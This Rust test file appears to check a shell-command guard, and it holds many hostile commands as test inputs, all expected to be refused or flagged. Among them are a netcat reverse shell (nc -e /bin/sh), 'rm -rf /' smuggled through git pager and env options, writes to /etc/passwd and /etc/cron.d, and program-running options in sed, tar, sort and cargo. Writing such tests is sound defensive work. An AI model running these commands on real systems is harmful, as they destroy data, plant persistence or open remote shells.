//! The option table against the whole judge: for every command and every risky option, a
//! trusted rule that admits the plain command still admits it, and no spelling of the option
//! (attached, separated, `=`, abbreviated, bundled) is allowed. Then the reproductions of the
//! review finding and hostile spellings.

use super::super::{Decision, Guard, GuardSettings, render_text};
use super::*;

fn guard(trusted: &[&str]) -> Guard {
    let s = GuardSettings {
        trusted: trusted.iter().map(|s| s.to_string()).collect(),
        ..GuardSettings::default()
    };
    Guard::from_settings(&s).expect("settings")
}

#[track_caller]
fn expect(g: &Guard, cmd: &str, d: Decision) {
    let v = g.check(cmd);
    assert_eq!(v.decision, d, "{cmd:?} -> {}", render_text(&v));
}

/// How to run `cmd` plainly: (trusted pattern, words before the options, words after).
fn plain(cmd: &str) -> (String, String, String) {
    let (trust, after) = match cmd {
        // wrappers are never trusted themselves: their inner command is
        "env" | "time" | "xvfb-run" => ("ls", "ls"),
        "awk" | "gawk" | "mawk" | "nawk" => (cmd, "'{print}' f.txt"),
        "tar" | "gtar" | "bsdtar" => (cmd, "-tf a.tar"),
        "ssh" | "sftp" => (cmd, "host"),
        "scp" => (cmd, "a host:b"),
        "nc" | "ncat" | "netcat" => (cmd, "host 80"),
        "curl" | "wget" | "aria2c" | "lynx" | "w3m" | "http" | "https" | "httpie" | "xh" => {
            (cmd, "https://example.org")
        }
        "cp" | "mv" | "ln" | "install" | "rsync" => (cmd, "a b"),
        "sed" | "gsed" => (cmd, "p f.txt"),
        "make" | "gmake" => (cmd, "all"),
        "man" => (cmd, "ls"),
        "npm" | "npx" | "pnpm" | "yarn" => (cmd, "test"),
        "pip" | "pip3" => (cmd, "list"),
        "cargo" => (cmd, "test"),
        "go" => (cmd, "build"),
        "openssl" => (cmd, "version"),
        "7z" | "7za" | "7zr" => (cmd, "l a.7z"),
        "rclone" => (cmd, "lsd"),
        "rg" => (cmd, "foo f.txt"),
        "zip" => (cmd, "a.zip f.txt"),
        "unzip" => (cmd, "a.zip"),
        "gcc" | "cc" | "clang" | "clang++" | "g++" | "c++" | "cpp" | "as" | "nasm" => {
            (cmd, "-c x.c")
        }
        "rustc" | "rustdoc" => (cmd, "x.rs"),
        _ => (cmd, "f.txt"),
    };
    (trust.to_string(), cmd.to_string(), after.to_string())
}

/// A value that makes the option's effect show: a program, or a path outside the workspace.
fn value_for(effect: Effect) -> String {
    match effect {
        Effect::Writes | Effect::Chdir | Effect::Code => "/tmp/zz".into(),
        Effect::TarArchive => "host:zz".into(),
        Effect::RunsIf(needles) => {
            let n = needles.first().copied().unwrap_or("");
            if n.chars().all(|c| c.is_ascii_alphanumeric() || c == '-') {
                format!("{n}=./x")
            } else {
                format!("x{n}/tmp/zz")
            }
        }
        _ => "./x".into(),
    }
}

/// Effects that depend on the value (an optional value left out writes the default file).
fn needs_value(effect: Effect) -> bool {
    matches!(
        effect,
        Effect::Writes | Effect::Chdir | Effect::Code | Effect::TarArchive
    )
}

/// A letter `spec` does not read as taking a value, for bundles (`-qo VALUE`).
fn flag_letter(spec: &Spec) -> char {
    let taken = |c: char| {
        let s = format!("-{c}");
        spec.values.contains(&s.as_str())
            || spec.optional.contains(&s.as_str())
            || spec.risky.iter().any(|r| r.names.contains(&s.as_str()))
    };
    "qvzhnVQ".chars().find(|c| !taken(*c)).unwrap_or('q')
}

/// Every spelling of option `name` with `value` the command would read the same way.
fn spellings(spec: &Spec, risky: &Risky, name: &str, value: &str) -> Vec<String> {
    let mut out = Vec::new();
    let val = risky.val;
    match spec.style {
        Style::Words => {
            if name.ends_with(['=', ',']) || name == "@" || val == Val::Optional {
                out.push(format!("{name}{value}"));
            } else if val == Val::No {
                out.push(name.to_string());
            } else {
                out.push(format!("{name} {value}"));
                out.push(format!("{name}={value}"));
                if !name.starts_with("--") {
                    out.push(format!("-{name} {value}"));
                }
            }
        }
        Style::Gnu { abbrev } if name.starts_with("--") => {
            match val {
                Val::No => out.push(name.to_string()),
                Val::Optional => {
                    if !needs_value(risky.effect) {
                        out.push(name.to_string());
                    }
                    out.push(format!("{name}={value}"));
                }
                Val::Required => {
                    out.push(format!("{name}={value}"));
                    out.push(format!("{name} {value}"));
                }
            }
            if abbrev && name.len() > 5 {
                let short = &name[..name.len() - 2];
                out.push(match val {
                    Val::No => short.to_string(),
                    _ => format!("{short}={value}"),
                });
            }
        }
        Style::Gnu { .. } => {
            let f = flag_letter(spec);
            let letters = &name[1..];
            match val {
                Val::No => {
                    out.push(name.to_string());
                    if letters.chars().count() == 1 {
                        out.push(format!("-{f}{letters}"));
                    }
                }
                Val::Optional => {
                    if !needs_value(risky.effect) {
                        out.push(name.to_string());
                    }
                    out.push(format!("{name}{value}"));
                    if letters.chars().count() == 1 {
                        out.push(format!("-{f}{letters}{value}"));
                    }
                }
                Val::Required => {
                    out.push(format!("{name}{value}"));
                    out.push(format!("{name} {value}"));
                    if letters.chars().count() == 1 {
                        out.push(format!("-{f}{letters} {value}"));
                        out.push(format!("-{f}{letters}{value}"));
                    }
                }
            }
        }
    }
    out
}

fn check_spec(spec: &Spec, trust: &str, before: &str, after: &str, failures: &mut Vec<String>) {
    let g = guard(&[trust]);
    let plain_cmd = format!("{before} {after}");
    let v = g.check(&plain_cmd);
    if v.decision != Decision::Allow {
        failures.push(format!("plain {plain_cmd:?} -> {}", render_text(&v)));
    }
    for risky in spec.risky {
        let value = value_for(risky.effect);
        for name in risky.names {
            for s in spellings(spec, risky, name, &value) {
                let cmd = format!("{before} {s} {after}");
                let v = g.check(&cmd);
                // a finding of the table names the option (another rule may speak first)
                let named = !v.rule.starts_with("builtin:option-")
                    || risky.names.iter().any(|n| v.reason.contains(n));
                if v.decision == Decision::Allow || !named {
                    failures.push(format!("{cmd:?} -> {}", render_text(&v)));
                }
            }
        }
    }
}

#[test]
fn every_risky_option_in_every_spelling_is_not_allowed() {
    let mut failures = Vec::new();
    for spec in SPECS {
        for cmd in spec.commands {
            let (trust, before, after) = plain(cmd);
            check_spec(spec, &trust, &before, &after, &mut failures);
        }
    }
    check_spec(&GIT_GLOBAL, "git", "git", "status", &mut failures);
    for spec in GIT_SUBCOMMANDS {
        for sub in spec.commands {
            let trust = format!("git {sub}");
            check_spec(spec, &trust, &trust, "", &mut failures);
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn review_reproductions() {
    let g = guard(&["sort", "rg", "git diff", "git status"]);
    expect(&g, "sort -S1 big.txt", Decision::Allow);
    expect(&g, "sort --compress-program=sh -S1 big.txt", Decision::Ask);
    expect(&g, "sort --compress-prog=sh -S1 big.txt", Decision::Ask);
    expect(&g, "sort -S1 big.txt --compress-program sh", Decision::Ask);
    expect(&g, "rg foo", Decision::Allow);
    expect(&g, "rg --pre=./x foo", Decision::Ask);
    expect(&g, "rg --pre ./x foo", Decision::Ask);
    expect(&g, "git diff", Decision::Allow);
    expect(&g, "git diff --ext-diff", Decision::Ask);
    expect(&g, "git diff --text", Decision::Allow);
    expect(&g, "git status", Decision::Allow);
    expect(&g, "git -c core.fsmonitor=./x status", Decision::Ask);
    let v = g.check("sort --compress-program=sh -S1 big.txt");
    assert_eq!(v.rule, "builtin:option-runs");
    assert!(v.reason.contains("--compress-program"), "{}", v.reason);
    // a one-word git rule admits git, not its program-running options
    let g = guard(&["git"]);
    expect(&g, "git status", Decision::Allow);
    expect(&g, "git -c core.fsmonitor=./x status", Decision::Ask);
    expect(
        &g,
        "git --config-env=core.fsmonitor=X status",
        Decision::Ask,
    );
    expect(&g, "git --exec-path=./bin status", Decision::Ask);
    expect(&g, "git -C /tmp/other status", Decision::Ask);
    expect(&g, "git -C sub status", Decision::Allow);
    expect(&g, "git -c core.pager='rm -rf /' status", Decision::Block);
    expect(&g, "git add -u", Decision::Allow);
    expect(&g, "git bisect run ./x", Decision::Ask);
    expect(&g, "git submodule --quiet foreach ./x", Decision::Ask);
    expect(&g, "git rebase -x ./x main", Decision::Ask);
}

/// Attached and separated values are one case: same decision, same rule.
#[test]
fn attached_and_separated_are_one_case() {
    let g = guard(&["sort", "cp", "mv", "unzip", "curl", "gcc"]);
    for group in [
        &[
            "sort -o/tmp/x f.txt",
            "sort -o /tmp/x f.txt",
            "sort --output=/tmp/x f.txt",
            "sort --output /tmp/x f.txt",
            "sort --outp=/tmp/x f.txt",
            "sort -uo /tmp/x f.txt",
            "sort -uo/tmp/x f.txt",
            "sort f.txt -o /tmp/x",
        ][..],
        &[
            "sort -o/etc/passwd f.txt",
            "sort -o /etc/passwd f.txt",
            "sort --output=/etc/passwd f.txt",
        ],
        &[
            "cp -t/etc/cron.d evil",
            "cp -t /etc/cron.d evil",
            "cp --target-directory=/etc/cron.d evil",
            "cp --target-dir /etc/cron.d evil",
        ],
        &["mv -t/etc x", "mv --target-directory=/etc x"],
        &["unzip -d/usr/bin a.zip", "unzip -d /usr/bin a.zip"],
        &[
            "curl -o/tmp/x https://e.org",
            "curl -o /tmp/x https://e.org",
        ],
        &[
            "gcc -o/tmp/x x.c",
            "gcc -o /tmp/x x.c",
            "gcc --output=/tmp/x x.c",
        ],
    ] {
        let first = g.check(group[0]);
        assert_ne!(first.decision, Decision::Allow, "{}", group[0]);
        for cmd in group {
            let v = g.check(cmd);
            assert_eq!(
                (v.decision, v.rule.as_str()),
                (first.decision, first.rule.as_str()),
                "{cmd:?} differs from {:?}: {}",
                group[0],
                render_text(&v)
            );
        }
    }
    // the plain, inside-the-workspace forms stay allowed
    expect(&g, "sort -o out.txt f.txt", Decision::Allow);
    expect(&g, "sort -oout.txt f.txt", Decision::Allow);
    expect(&g, "cp -t dist a b", Decision::Allow);
    expect(&g, "unzip -dvendor a.zip", Decision::Allow);
}

#[test]
fn commands_with_their_own_rules_read_options_the_same_way() {
    let g = guard(&["sed", "ls", "rm", "tar", "nc", "cargo"]);
    // sed: attached and abbreviated script options, -i with a suffix
    expect(&g, "sed -n p f.txt", Decision::Allow);
    expect(&g, "sed -e's/x/id/e' f.txt", Decision::Ask);
    expect(&g, "sed --expr='1e id' f.txt", Decision::Ask);
    expect(&g, "sed -ne '1e id' f.txt", Decision::Ask);
    expect(&g, "sed -i.bak s/a/b/ /etc/passwd", Decision::Block);
    expect(&g, "sed --in-pl s/a/b/ /etc/passwd", Decision::Block);
    expect(&g, "sed -i s/a/b/ f.txt", Decision::Allow);
    // env: abbreviated split string and a working directory elsewhere
    expect(&g, "env --split-str='rm -rf /tmp/x' ls", Decision::Ask);
    expect(&g, "env -S'rm -rf /' ls", Decision::Block);
    expect(&g, "env -iS 'rm -rf /' ls", Decision::Block);
    expect(&g, "env -C / rm -rf usr", Decision::Ask);
    expect(&g, "env --chdir=/ rm -rf usr", Decision::Ask);
    expect(&g, "env -C sub ls", Decision::Allow);
    // tar: dash-less bundles take their values in order; reading elsewhere stays allowed
    expect(&g, "tar -tf a.tar", Decision::Allow);
    expect(&g, "tar xf a.tar", Decision::Allow);
    expect(&g, "tar -tf /srv/a.tar", Decision::Allow);
    expect(&g, "tar --checkpoint -tf a.tar", Decision::Allow);
    expect(&g, "tar xIf sh a.tar", Decision::Ask);
    expect(&g, "tar -xIsh -f a.tar", Decision::Ask);
    expect(&g, "tar --use-comp=sh -xf a.tar", Decision::Ask);
    expect(
        &g,
        "tar cf a.tar --checkpoint=1 --checkpoint-action=exec=sh .",
        Decision::Ask,
    );
    expect(&g, "tar -xf host:a.tar", Decision::Ask);
    expect(&g, "tar -cf /tmp/a.tar .", Decision::Ask);
    expect(&g, "tar cf /etc/a.tar .", Decision::Block);
    // nc: attached program still blocked
    expect(&g, "nc -e/bin/sh host 4444", Decision::Block);
    expect(&g, "nc -ve /bin/sh host 4444", Decision::Block);
    // configuration through the environment
    expect(
        &g,
        "TAR_OPTIONS=--to-command=sh tar -xf a.tar",
        Decision::Ask,
    );
    expect(&g, "RUSTC_WRAPPER=./x cargo test", Decision::Ask);
    expect(&g, "CARGO_TARGET_DIR=/tmp/t cargo test", Decision::Ask);
    expect(&g, "RUST_BACKTRACE=1 cargo test", Decision::Allow);
    expect(&g, "CARGO_TERM_COLOR=always cargo test", Decision::Allow);
    expect(
        &g,
        "cargo test --config 'target.x86_64-unknown-linux-gnu.runner=\"./x\"'",
        Decision::Ask,
    );
    expect(&g, "cargo test -- --nocapture", Decision::Allow);
}

#[test]
fn globs_where_an_option_can_stand_are_asked() {
    let g = guard(&["rg", "tar", "ls"]);
    expect(&g, "rg foo *", Decision::Ask);
    expect(&g, "rg foo ./*", Decision::Allow);
    expect(&g, "rg foo -- *", Decision::Allow);
    expect(&g, "rg foo src/*.rs", Decision::Allow);
    expect(&g, "tar cf a.tar *", Decision::Ask);
    expect(&g, "ls *", Decision::Allow);
}

#[test]
fn hostile_spellings() {
    let g = guard(&["sort", "rg", "git", "tar"]);
    // not options the command can read: no panic, never allowed by mistake
    expect(&g, "sort --= f.txt", Decision::Ask);
    expect(&g, "sort --=sh f.txt", Decision::Ask);
    expect(&g, "sort -- --compress-program=sh", Decision::Allow);
    expect(&g, "sort '' f.txt", Decision::Allow);
    expect(&g, "rg --pre= foo", Decision::Ask);
    expect(&g, "rg --pre", Decision::Ask);
    expect(&g, "sort -o", Decision::Allow);
    let huge = format!("sort --compress-program={} f.txt", "a".repeat(60_000));
    expect(&g, &huge, Decision::Ask);
    let huge_bundle = format!("sort -{}o /tmp/x f.txt", "u".repeat(60_000));
    expect(&g, &huge_bundle, Decision::Ask);
    // a Unicode dash is a file name to getopt, as it is here; multibyte letters in a
    // bundle do not panic
    expect(
        &g,
        "sort \u{2014}compress-program=sh f.txt",
        Decision::Allow,
    );
    expect(&g, "sort \u{2013}o /tmp/x f.txt", Decision::Allow);
    expect(&g, "sort -\u{e9}\u{2014}o /tmp/x f.txt", Decision::Ask);
    expect(&g, "tar \u{e9}If sh a.tar", Decision::Ask);
    expect(&g, "git -c", Decision::Ask);
    expect(&g, "git --config-env", Decision::Ask);
    expect(&g, "tar -f", Decision::Allow);
}
